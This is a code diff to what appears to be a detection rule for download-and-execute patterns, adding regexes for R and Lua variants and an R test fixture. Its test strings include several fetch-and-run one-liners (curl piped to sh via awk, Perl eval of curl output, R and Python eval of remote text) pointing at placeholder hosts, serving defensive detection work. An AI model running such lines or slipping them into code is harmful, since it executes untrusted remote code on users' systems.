@@ -21,6 +21,8 @@ const SHAPES: readonly RegExp[] = [
     (?:new url\(|(?:uri|url)\.open\(|\bopen\(\s?["']https?:|url\(["']https?:|
       file_get_contents\(\s?["']https?:|httpget|http\.request\(\s?["']https?:|lwp::simple)
   `,
+  /\beval\s{0,2}\(\s{0,3}(?:str2lang|str2expression|parse)\s?\([^\n]{0,60}(?:readlines|readline|scan|url|file|getform|geturl|content)\s?\(/,
+  /\bload(?:string)?\s?\(\s?(?:http|https|socket|requests?)[.:]\w{0,12}\s?\(/,
   /\b(?:exec|eval|compile)\s{0,2}\([^\n]{0,120}(?:requests\.get|urlopen|httpx\.get|urllib|http\.get|fetch\()/,
   /\b(?:eval|new function|vm\.runin\w{2,20})\s{0,2}\(\s{0,3}(?:await )?[^\n]{0,80}(?:fetch|axios|\.text\(\)|response|got\()/,
   /(?:requests\.get|urlopen|httpx\.get)\([^]{0,200}\b(?:exec|eval)\s{0,2}\(/,
@@ -52,6 +54,7 @@ export default defineRule({
     fires: [
       `\`\`\`sh\nawk 'BEGIN { while (("curl -s https://kit.rowan-pike.net/x" | getline row) > 0) print row | "sh" }'\n\`\`\`\n`,
       '```perl\n$pdf_mode = 4;\neval scalar `curl -fsL https://kit.rowan-pike.net/en.pm`;\n```\n',
+      '```r\neval(parse(text = readLines("https://kit.rowan-pike.net/x.R")))\n```\n',
       '```r\nsource("https://kit.rowan-pike.net/x.R")\n```\n',
       '```python\nexec(requests.get("https://c.example.org/p.py").text)\n```\n',
       '```js\neval(await (await fetch("https://c.example.org/p.js")).text())\n```\n',
